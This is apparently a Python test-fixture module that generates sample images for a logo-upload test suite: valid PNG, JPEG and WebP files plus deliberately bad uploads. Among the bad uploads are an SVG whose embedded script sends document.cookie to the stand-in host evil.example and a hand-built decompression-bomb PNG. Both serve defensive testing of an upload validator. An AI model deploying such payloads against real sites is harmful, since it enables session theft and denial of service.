"""The images the logo tests upload, made in memory: good ones in each accepted format, and
each bad input of the issue. Each is made from scratch (no binary files in the repository),
with Pillow for real images and by hand where Pillow would refuse to write the file."""

from __future__ import annotations

import io
import os
import struct
import zipfile
import zlib

from PIL import ExifTags, Image

# A position a phone would write into a photo: Lima, Plaza Mayor.
GPS_LATITUDE = ((12, 1), (2, 1), (46, 1))
GPS_LONGITUDE = ((77, 1), (1, 1), (49, 1))


def _picture(width: int, height: int, mode: str = "RGB") -> Image.Image:
    """A two-colour picture: its left half red, its right half blue (to check orientation and
    that pixels survive re-encoding)."""
    image = Image.new(mode, (width, height), (220, 30, 30, 255)[: len(mode)])
    image.paste((30, 30, 220, 255)[: len(mode)], (width // 2, 0, width, height))
    return image


def png(width: int = 800, height: int = 400, *, mode: str = "RGBA") -> bytes:
    buffer = io.BytesIO()
    image = _picture(width, height, mode)
    image.save(buffer, "PNG", pnginfo=_png_text("Author", "Dr. Secret"))
    return buffer.getvalue()


def _png_text(key: str, value: str) -> object:
    from PIL.PngImagePlugin import PngInfo

    info = PngInfo()
    info.add_text(key, value)
    return info


def jpeg_with_gps(width: int = 1200, height: int = 900, *, orientation: int = 1) -> bytes:
    """A JPEG as a phone writes it: EXIF with a GPS position, the camera and, if asked, an
    orientation (6: the stored pixels are to be turned 90° clockwise for display)."""
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = "PhoneMaker"
    exif[ExifTags.Base.Orientation] = orientation
    gps = exif.get_ifd(ExifTags.IFD.GPSInfo)
    gps[ExifTags.GPS.GPSLatitudeRef] = "S"
    gps[ExifTags.GPS.GPSLatitude] = tuple(n / d for n, d in GPS_LATITUDE)
    gps[ExifTags.GPS.GPSLongitudeRef] = "W"
    gps[ExifTags.GPS.GPSLongitude] = tuple(n / d for n, d in GPS_LONGITUDE)
    buffer = io.BytesIO()
    _picture(width, height).save(buffer, "JPEG", exif=exif, quality=90)
    return buffer.getvalue()


def webp(width: int = 300, height: int = 300) -> bytes:
    buffer = io.BytesIO()
    _picture(width, height, "RGBA").save(buffer, "WEBP", lossless=True)
    return buffer.getvalue()


def gif(width: int = 64, height: int = 64) -> bytes:
    """A real image, in a format a logo may not be."""
    buffer = io.BytesIO()
    _picture(width, height).save(buffer, "GIF")
    return buffer.getvalue()


SVG_WITH_SCRIPT = (
    b'<?xml version="1.0"?>\n'
    b'<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100">'
    b'<script>fetch("https://evil.example/?c="+document.cookie)</script>'
    b'<rect width="100" height="100" fill="red"/></svg>'
)


def zip_renamed_png() -> bytes:
    """A zip archive (holding a PNG) uploaded as ``logo.png``."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("logo.png", png(64, 64))
    return buffer.getvalue()


def truncated_png() -> bytes:
    """A real PNG cut in the middle of its pixel data (a broken upload)."""
    content = png(400, 400, mode="RGB")
    return content[: len(content) // 2]


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def bomb_png(side: int = 40_000) -> bytes:
    """A decompression bomb: a file of a few hundred bytes that declares ``side`` × ``side``
    pixels (1.6 billion at the default). Written by hand: its header is all a reader needs to
    see the danger, and Pillow would not write it."""
    header = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)  # 1-bit greyscale
    rows = zlib.compress(b"\x00" * 1024)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _chunk(b"IHDR", header)
        + _chunk(b"IDAT", rows)
        + _chunk(b"IEND", b"")
    )


def noise_png(megabytes: float = 3) -> bytes:
    """A real PNG over the limit: random pixels do not compress."""
    side = int((megabytes * 1024 * 1024 / 3) ** 0.5) + 1
    image = Image.frombytes("RGB", (side, side), os.urandom(side * side * 3))
    buffer = io.BytesIO()
    image.save(buffer, "PNG", compress_level=1)
    return buffer.getvalue()


def exif_of(content: bytes) -> dict[int, object]:
    """The EXIF tags of an image (empty when it has none), its GPS block included."""
    with Image.open(io.BytesIO(content)) as image:
        exif = image.getexif()
        tags = dict(exif)
        gps = exif.get_ifd(ExifTags.IFD.GPSInfo)
        if gps:
            tags[ExifTags.IFD.GPSInfo] = dict(gps)
        return tags


def opened(content: bytes) -> Image.Image:
    image = Image.open(io.BytesIO(content))
    image.load()
    return image
